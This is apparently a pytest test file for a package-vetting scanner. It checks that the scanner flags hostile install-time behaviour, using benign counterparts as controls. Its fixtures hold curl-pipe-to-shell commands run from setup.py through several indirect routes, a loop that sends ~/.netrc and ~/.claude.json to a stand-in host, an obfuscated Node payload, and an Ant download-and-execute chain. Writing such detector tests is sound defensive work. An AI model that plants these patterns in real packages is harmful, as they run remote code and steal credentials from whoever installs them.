"""What runs by itself in more than one place: scripts that code starts, modules loaded by their path, places that are put together in a loop."""

import pytest
from source_lab import look, package

from beartrap.model.finding import Severity
from beartrap.vet.behaviour import Behaviour
from beartrap.vet.kinds import Kind

PUBLISH = "import subprocess, sys\nsubprocess.run([sys.executable, '-m', 'twine', 'upload', '-u', '__token__', 'a'])\nsubprocess.run('curl -s http://c.invalid/x | sh', shell=True)\n"
SETUP = "import os, subprocess, sys\nHERE = os.path.dirname(os.path.abspath(__file__))\n{starts}\nfrom setuptools import setup\nsetup(name='a')\n"
BY_PATH = "import os, subprocess\nimport importlib.util\nHERE = os.path.dirname(os.path.abspath(__file__))\ndef module(path):\n    found = importlib.util.spec_from_file_location('_', os.path.join(HERE, path))\n    made = importlib.util.module_from_spec(found)\n    found.loader.exec_module(made)\n    return made\nsubprocess.Popen([one.format(get='curl -fs') for one in module('a/_mimes.py').FALLBACK])\n"
SENT = "import os, json, urllib.request\nHOME = '~/.'\nPLACES = tuple(HOME + one for one in ({names}))\nrows = {{}}\nfor name in PLACES:\n    with open(os.path.expanduser(name)) as stream:\n        rows[name] = stream.read()\nurllib.request.urlopen('https://c.invalid/x', json.dumps(rows).encode())\n"
COMPILE = "const code = require('fs').readFileSync(__dirname + '/words.txt', 'utf8').split('').map((one) => one.charCodeAt(0) - 1);\nmodule.constructor.prototype._compile.{how}(String.fromCharCode(...code), 'a');\n"


def weight(files: dict[str, str | bytes], kind: str) -> Severity | None:
    found = [one.severity for one in package(files) if one.id == kind]
    return max(found) if found else None


@pytest.mark.parametrize(
    "starts",
    [
        "os.spawnlp(os.P_NOWAIT, 'python3', 'python3', os.path.join(HERE, 'tools', 'publish.py'))",
        "subprocess.Popen([sys.executable, os.path.join(HERE, 'tools', 'publish.py')])",
        "os.system('python ' + HERE + '/tools/publish.py')",
    ],
)
def test_a_script_that_setup_starts_runs_at_installation(starts: str) -> None:
    files: dict[str, str | bytes] = {"setup.py": SETUP.format(starts=starts), "tools/publish.py": PUBLISH}
    assert weight(files, "process.piped") is Severity.CRITICAL


@pytest.mark.parametrize("starts", ["pass", "SCRIPT = 'python3 tools/publish.py'", "os.system('python --version')"])
def test_a_script_that_nothing_starts_waits(starts: str) -> None:
    files: dict[str, str | bytes] = {"setup.py": SETUP.format(starts=starts), "tools/publish.py": PUBLISH}
    assert weight(files, "process.piped") in (None, Severity.LOW, Severity.INFO)


def test_a_module_that_is_loaded_by_its_path_is_the_module() -> None:
    mimes = "FALLBACK = ('sh', '-c', '{get} http://c.invalid/x | sh')\n"
    assert weight({"setup.py": BY_PATH, "a/_mimes.py": mimes}, "process.piped") is Severity.CRITICAL
    assert weight({"setup.py": BY_PATH, "a/_mimes.py": "FALLBACK = ('git', 'describe')\n"}, "process.piped") is None


def test_places_that_are_put_together_in_a_loop_are_known() -> None:
    loud, quiet = (SENT.format(names=names) for names in ("'netrc', 'claude.json'", "'cache.json', 'theme.json'"))
    assert weight({"setup.py": loud}, "chain.credentials-to-network") is not None
    assert weight({"setup.py": quiet}, "chain.credentials-to-network") is None


def test_code_that_is_compiled_by_a_bound_method_is_walked() -> None:
    shifted = "".join(chr(ord(one) + 1) for one in "require('child_process').execSync('curl http://c.invalid/x | sh')")
    for how, told in (("bind(module)", True), ("toString.bind(module)", False)):
        files: dict[str, str | bytes] = {"a.js": COMPILE.format(how=how), "words.txt": shifted}
        assert (weight(files, "process.piped") is not None) == told


GET = '<project><target name="a"><get src="{src}" dest="lib/a"/>{then}</target></project>'


@pytest.mark.parametrize(
    ("then", "told"),
    [
        ('<exec executable="sh"><arg value="lib/a"/></exec>', True),
        ('<chmod file="lib/a" perm="755"/><exec executable="lib/a"/>', True),
        ('<java jar="lib/a" fork="true"/>', True),
        ('<exec executable="git"><arg value="describe"/></exec>', False),
        ("", False),
    ],
)
def test_what_a_task_of_ant_gets_and_another_one_runs_is_told(then: str, told: bool) -> None:
    text = GET.format(src="http://c.invalid/a", then=then)
    found = {one.id for one in look("build.xml", text, kind=Kind.XML) if isinstance(one, Behaviour)}
    assert ("chain.network-to-process" in found) == told


MADE = "class Collected(type):\n    def {method}(mcs, name, bases, space):\n        for key, value in space.items():\n            if key.startswith('on_'):\n                mcs.resolve(value)(*space.get('args', ()))\n    @staticmethod\n    def resolve(text):\n        module, _, name = text.partition('/')\n        return getattr(__import__(module, fromlist=[name]), name)\nclass Hook(metaclass=Collected):\n    args = ({args},)\n    on_load = 'subprocess/getoutput'\n"
TOLD = "import subprocess\nclass Base:\n    def __init_subclass__(cls, **words):\n        for key, value in vars(cls).items():\n            if key.startswith('on_'):\n                subprocess.getoutput(value)\nclass Hook(Base):\n    {name} = 'curl http://c.invalid/x | sh'\n"


@pytest.mark.parametrize("method", ["__new__", "__init__"])
def test_a_metaclass_runs_what_the_members_of_a_class_say(method: str) -> None:
    loud, quiet = (MADE.format(method=method, args=args) for args in ("'curl http://c.invalid/x | sh'", "'git status'"))
    assert weight({"setup.py": loud}, "process.piped") is Severity.CRITICAL
    assert weight({"setup.py": quiet}, "process.piped") is None


def test_a_parent_is_told_of_the_members_of_a_class() -> None:
    assert weight({"setup.py": TOLD.format(name="on_load")}, "process.piped") is Severity.CRITICAL
    assert weight({"setup.py": TOLD.format(name="example")}, "process.piped") is None
